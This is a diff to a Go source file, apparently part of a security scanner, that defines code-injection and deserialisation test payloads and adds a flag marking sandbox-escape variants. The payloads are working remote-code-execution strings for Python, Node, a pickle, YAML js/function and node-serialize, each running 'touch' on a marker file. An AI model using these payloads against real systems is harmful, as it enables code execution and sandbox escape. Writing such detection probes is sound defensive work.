@@ -45,6 +45,8 @@ type Payload struct {
 	// Control is a value that has the same effect by the tool's declared purpose alone: where it
 	// works too, the tool does what it is for. "" for none.
 	Control string
+	// Escapes says that the value leaves what a tool restricts code to, which no tool is for.
+	Escapes bool
 }
 
 // variant makes one payload of a class. ok is false where the place lacks what it leads to.
@@ -110,13 +112,23 @@ func code(name, format string) variant {
 	}
 }
 
+// escape is code that gets by without what a tool took away from the code that it runs.
+func escape(name, format string) variant {
+	return func(m Mark, _ Place, _ string) (Payload, bool) {
+		return Payload{Variant: name, Value: fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Escapes: true}, true
+	}
+}
+
+// jsRun has Node run a command from a script or a module.
+const jsRun = "(process.mainModule?process.mainModule.require('child_process'):process.getBuiltinModule('child_process')).execSync('touch %s')"
+
 var codeVariants = []variant{
 	code("Python", "__import__('os').system('touch %s')"),
 	code("JavaScript", "require('child_process').execSync('touch %s')"),
 	code("JavaScript without require", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch %s')"),
-	code("Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch %s')"),
-	code("out of a JavaScript string", "');require('child_process').execSync('touch %s');//"),
-	code("out of a Python string", "'+str(__import__('os').system('touch %s'))+'"),
+	escape("Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch %s')"),
+	escape("out of a JavaScript string", "');require('child_process').execSync('touch %s');//"),
+	escape("out of a Python string", "'+str(__import__('os').system('touch %s'))+'"),
 }
 
 var templateVariants = []variant{
@@ -160,6 +172,7 @@ var deserialisationVariants = []variant{
 		pickle := "cos\nsystem\n(S'touch " + m.Touch + "'\ntR."
 		return Payload{Variant: "Python pickle in base64", Value: base64.StdEncoding.EncodeToString([]byte(pickle)), Expect: []probe.Kind{probe.File}}, true
 	},
+	code("function in YAML of JavaScript", "toString: !!js/function \"function(){return "+jsRun+"}\"\n"),
 	code("function in node-serialize", `{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch %s')}()"}`),
 }
 
